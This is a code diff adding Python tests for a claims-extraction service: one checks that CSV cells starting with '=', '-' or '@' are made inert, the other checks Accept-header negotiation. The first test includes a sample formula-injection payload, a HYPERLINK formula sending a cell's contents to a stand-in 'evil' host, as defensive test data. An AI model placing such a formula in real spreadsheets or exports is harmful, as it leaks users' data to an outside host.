@@ -66,3 +66,28 @@ def test_claims_extract_writes_csv(tmp_path: Path) -> None:
     assert len(rows) == 27
     assert any("15.2%" in row["text"] for row in rows)
     assert time.monotonic() - started < 60
+
+
+def test_a_cell_a_spreadsheet_would_run_is_made_inert() -> None:
+    """A quote starting "-40%" or "=HYPERLINK(" gets a leading ' (spreadsheets hide it and keep the text)."""
+    from service.exports.csv_rows import inert
+
+    assert inert("-40% in May") == "'-40% in May"
+    assert inert('=HYPERLINK("https://evil/?"&A2)') == '\'=HYPERLINK("https://evil/?"&A2)'
+    assert inert("@handle said") == "'@handle said"
+    assert inert("Rents rose 7%") == "Rents rose 7%"
+
+
+def test_accept_is_read_with_its_quality_values(tmp_path: Path) -> None:
+    """`text/csv;q=0` refuses CSV; the highest q wins; every answer varies on Accept and says its status."""
+    settings = Settings(cache_dir=tmp_path / "c", data_dir=tmp_path / "d")
+    body = {"article": {"text": "Prices rose 3% in June, the ONS said."}}
+    with TestClient(create_app(settings)) as client:
+        refused = client.post("/v1/extractions", json=body, headers={"Accept": "application/json, text/csv;q=0"})
+        ranked = client.post("/v1/extractions", json=body, headers={"Accept": "application/ld+json;q=0.1, text/csv"})
+        anything = client.post("/v1/extractions", json=body, headers={"Accept": "*/*"})
+    assert refused.headers["content-type"] == "application/json"
+    assert ranked.headers["content-type"].startswith("text/csv")
+    assert ranked.headers["extraction-status"] == "complete"
+    assert anything.headers["content-type"] == "application/json"
+    assert {r.headers["vary"] for r in (refused, ranked, anything)} == {"Accept"}
